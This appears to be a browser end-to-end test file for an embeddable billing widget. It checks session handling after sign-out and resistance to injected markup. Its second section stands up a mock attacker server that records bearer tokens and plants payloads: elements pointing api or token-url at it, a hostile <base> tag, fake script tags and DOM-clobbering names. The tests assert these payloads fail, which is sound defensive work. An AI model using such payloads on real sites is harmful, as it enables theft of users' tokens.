/**
 * Two takeovers of a page, each in a real browser: a page that outlives its person, and markup in a user's content that
 * names where tokens go. Each test also reads the words on the page.
 */
import { createServer, type Server } from 'node:http';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { active, pro } from '../../demo/host/gallery/snapshots.ts';
import { openAudience, type Audience } from '../e2e/browser-pages.ts';
import { scriptTag, HostSite, tokenOf } from '../e2e/host-site.ts';
import { listening } from '../support/listening.ts';
import { press, says } from '../e2e/widget-words.ts';

let site: HostSite;
let audience: Audience;
let evil: Evil;
beforeAll(async () => {
  [site, audience, evil] = await Promise.all([new HostSite().open(), openAudience(), openEvil()]);
});
afterAll(() => Promise.all([site.close(), audience.close(), evil.close()]));
beforeEach(() => {
  site.asked.length = 0;
  site.instead.clear();
  evil.heard.length = 0;
});
afterEach(async () => {
  await audience.leave();
  expect(audience.troubles.splice(0)).toEqual([]);
  audience.warnings.length = 0;
});

interface Evil {
  readonly url: string;
  /** The requests that arrived there: the address and the bearer's token. */
  readonly heard: string[];
  close(): Promise<void>;
}

/** An attacker's server, which answers every origin as a BFF would. */
async function openEvil(): Promise<Evil> {
  const heard: string[] = [];
  const server: Server = createServer((request, response) => {
    if (request.method !== 'OPTIONS') heard.push(`${request.url} ${request.headers.authorization ?? ''}`);
    response.writeHead(200, {
      'access-control-allow-origin': request.headers.origin ?? '*',
      'access-control-allow-headers': 'authorization, content-type, if-none-match, prefer',
      'access-control-allow-credentials': 'true',
      'content-type': 'application/json',
    });
    response.end(JSON.stringify({ ...active, token: tokenOf('account-1') }));
  });
  return { heard, ...(await listening(server)) };
}

const widget = '<billhook-widget></billhook-widget>';
const subjectOf = (authorization = ''): string =>
  (JSON.parse(Buffer.from(authorization.split('.')[1] ?? '', 'base64url').toString()) as { sub: string }).sub;
/** The words of all elements on the page. */
const words = (page: Page) =>
  page.evaluate(() =>
    [...document.querySelectorAll<HTMLElement>('billhook-widget')]
      .map(({ shadowRoot }) => shadowRoot?.querySelector<HTMLElement>('.root')?.innerText ?? '')
      .join(''),
  );
const portals = () => site.asked.filter((each) => each === 'POST /v1/portal-sessions');

describe('B16: a page that outlives its person', () => {
  /** Signed in at the host; `null`: no one is. */
  let person: string | null;
  let opened: string[];
  beforeEach(() => {
    person = 'alice';
    opened = [];
    site.pages.set('/', { head: scriptTag(site), body: widget });
    site.instead.set('/token', (c) => (person === null ? c.body(null, 204) : c.json({ token: tokenOf(person) })));
    site.instead.set('/v1/billing', (c) => {
      const subject = subjectOf(c.req.header('authorization'));
      return c.json(subject === 'alice' ? active : { ...active, plan: pro, revision: 'e1.2' });
    });
    site.instead.set('/v1/portal-sessions', (c) => {
      opened.push(subjectOf(c.req.header('authorization')));
      return c.json({ url: `${site.bffUrl}/stripe`, visit: 'visit-1' });
    });
  });

  const open = async (): Promise<Page> => {
    const page = await audience.page(`${site.hostUrl}/`);
    await says(page, 'Team');
    return page;
  };
  /** Hidden, and then seen again: the events of a tab to which a person comes back. */
  const leaveAndComeBack = (page: Page) =>
    page.evaluate(() => {
      for (const visibility of ['hidden', 'visible']) {
        Object.defineProperty(Document.prototype, 'visibilityState', { configurable: true, get: () => visibility });
        document.dispatchEvent(new Event('visibilitychange', { bubbles: true }));
      }
    });

  it('the next person’s first click opens no portal: the page shows their account first', async () => {
    const page = await open();
    person = 'bob';
    await press(page, 'Manage billing');
    await says(page, 'Pro');
    expect(opened).toEqual([]);
    expect(await words(page)).not.toContain('Team');
    await press(page, 'Manage billing');
    await page.waitForURL('**/stripe');
    expect(opened).toEqual(['bob']);
  });

  it('a click after sign-out opens nothing, and the page is empty', async () => {
    const page = await open();
    person = null;
    await press(page, 'Manage billing');
    await expect.poll(() => words(page)).toBe('');
    expect([opened, portals()]).toEqual([[], []]);
  });

  it('the tab shows the next person’s plan when they focus it', async () => {
    const page = await open();
    person = 'bob';
    await leaveAndComeBack(page);
    await says(page, 'Pro');
    expect(await words(page)).not.toContain('Team');
  });

  it('a tab that comes forward after sign-out shows nothing', async () => {
    const page = await open();
    person = null;
    await leaveAndComeBack(page);
    await expect.poll(() => words(page)).toBe('');
  });

  it('forgetBillhook() at sign-out empties the page and the tab’s storage', async () => {
    const page = await open();
    person = null;
    await page.evaluate(() => sessionStorage.setItem('billhook-visit:left', 'visit-1'));
    // As text, because the test runner has an `import` of its own.
    await page.evaluate(`import('${site.bffUrl}/widget.js').then(({ forgetBillhook }) => forgetBillhook())`);
    await expect.poll(() => words(page)).toBe('');
    expect(await page.evaluate(() => Object.keys(sessionStorage))).toEqual([]);
  });

  const login = '<!doctype html><title>Sign in</title><form action="/sign-in"></form>';
  it.each([
    ['{ "token": null }', 200, '{"token":null}', 0],
    ['204', 204, null, 0],
    ['404', 404, 'Not found', 1],
    ['419', 419, 'Page expired', 0],
    ['a login page', 200, login, 1],
    ['another token than ours', 200, '{"token":"csrf-5f2a"}', 1],
  ])('a host that answers %s: signed out, and %i is no error for the customer', async (_, status, body, warnings) => {
    const page = await open();
    site.instead.set('/token', () => new Response(body, { status }));
    site.asked.length = 0;
    await press(page, 'Manage billing');
    await expect.poll(() => words(page)).toBe('');
    expect(site.asked).toEqual(['GET /token']);
    expect(audience.warnings.filter((each) => each.startsWith('billhook: '))).toHaveLength(warnings);
    // The browser's own note of a status.
    expect(audience.troubles.splice(0).filter((each) => !/status of 4/.test(each))).toEqual([]);
  });
});

describe('B17: markup of a user’s content', () => {
  const csrf = '{"token":"csrf-5f2a"}';
  const honest = `<main>${widget}</main>`;

  it.each([
    ['with any JSON that has a token', () => `<billhook-manage-button api="${evil.url}" token-url="/api/csrf">`],
    ['with the widget token', () => `<billhook-manage-button api="${evil.url}" token-url="/token">`],
    ['with the page’s own token', () => `<billhook-widget api="${evil.url}">`],
    ['by another path of the BFF', () => `<billhook-widget api="${site.bffUrl}/uploads/evil/">`],
  ])('names another BFF %s: nothing is sent there, and the element shows a failure', async (_, gadget) => {
    site.scripts.set('/api/csrf', csrf);
    const tag = /<([\w-]+)/.exec(gadget())?.[1] ?? '';
    site.pages.set('/', { head: scriptTag(site), body: `${honest}<article>${gadget()}</${tag}></article>` });
    const page = await audience.page(`${site.hostUrl}/`);
    await says(page, 'Team');
    await page.waitForLoadState('networkidle');
    expect(evil.heard).toEqual([]);
    expect(site.asked).toEqual(['GET /token', 'GET /v1/billing']);
    if (tag === 'billhook-widget') await page.locator('article').getByText('api_not_allowed').first().waitFor();
    expect(audience.warnings).toEqual([expect.stringMatching(/^billhook: api_not_allowed: /)]);
  });

  it.each([
    ['on another origin', () => `${evil.url}/token`, 'token_url_not_allowed'],
    ['with JSON that is not ours', () => '/api/csrf', ''],
  ])('names a token address %s: nothing is sent, and the page’s own elements work', async (_, address, code) => {
    site.scripts.set('/api/csrf', csrf);
    const gadget = `<article><billhook-widget token-url="${address()}" token-credentials="include"></billhook-widget></article>`;
    site.pages.set('/', { head: scriptTag(site), body: `${gadget}${honest}` });
    const page = await audience.page(`${site.hostUrl}/`);
    await page.locator('main billhook-widget .root.ready').getByText('Team').first().waitFor();
    await page.waitForLoadState('networkidle');
    expect(evil.heard).toEqual([]);
    expect(site.asked).toEqual(['GET /token', 'GET /v1/billing']);
    if (code) await page.locator('article').getByText(code).first().waitFor();
    else expect(await page.locator('article billhook-widget .root').innerText()).toBe('');
  });

  it('has a <base> and further script tags: they have no effect', async () => {
    const tag = (attributes: string) => `<script type="module" src="${site.bffUrl}/widget.js" ${attributes}></script>`;
    const fake = tag(`data-api="${evil.url}" data-token-url="${evil.url}/token" data-words="x" data-get-token="x"`);
    site.pages.set('/', { head: scriptTag(site), body: `${honest}<base href="${evil.url}/">${fake}` });
    const page = await audience.page(`${site.hostUrl}/`);
    await says(page, 'Team');
    await press(page, 'Manage billing');
    await page.waitForURL('**/stripe');
    expect(evil.heard).toEqual([]);
    // In front of ours, where a page has its scripts at the end: ours is of no use then, and still nothing is sent.
    site.pages.set('/', { body: `${honest}<base href="${evil.url}/">${fake}${scriptTag(site)}` });
    const other = await audience.page(`${site.hostUrl}/`);
    await other.locator('billhook-widget').getByText('token_url_not_allowed').first().waitFor();
    expect(evil.heard).toEqual([]);
  });

  it('clobbers properties of the document: every element works', async () => {
    const names = [
      'baseURI',
      'readyState',
      'visibilityState',
      'documentElement',
      'querySelectorAll',
      'currentScript',
      'body',
      'createElement',
      'createTreeWalker',
      'createComment',
      'importNode',
      'implementation',
      'adoptedStyleSheets',
      'billhook',
      'location',
      'origin',
      'fetch',
      'customElements',
      'sessionStorage',
      'document',
    ];
    const clobbering = names
      .map((name) => `<img name="${name}" id="${name}" alt=""><form name="${name}"></form>`)
      .join('');
    site.pages.set('/', { head: scriptTag(site), body: `${clobbering}${honest}` });
    const page = await audience.page(`${site.hostUrl}/`);
    await says(page, 'Team');
    await press(page, 'Manage billing');
    await page.waitForURL('**/stripe');
  });
});
